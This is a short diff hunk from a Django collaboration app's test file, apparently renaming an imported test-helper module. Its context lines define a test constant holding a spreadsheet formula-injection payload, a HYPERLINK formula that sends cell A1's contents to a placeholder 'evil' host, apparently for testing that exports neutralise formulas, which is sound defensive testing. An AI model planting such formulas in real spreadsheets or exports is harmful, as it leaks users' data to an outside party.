@@ -11,7 +11,7 @@ from django.test import Client
 
 from collab.models import AuditEvent, Collaboration, Seat
 from tests import factories
-from tests.collab.rights_table import ANYBODY
+from tests.collab.rights_rows import ANYBODY
 from tests.collab.world import World, address_of
 
 EVIL = '=HYPERLINK("http://evil?"&A1)'
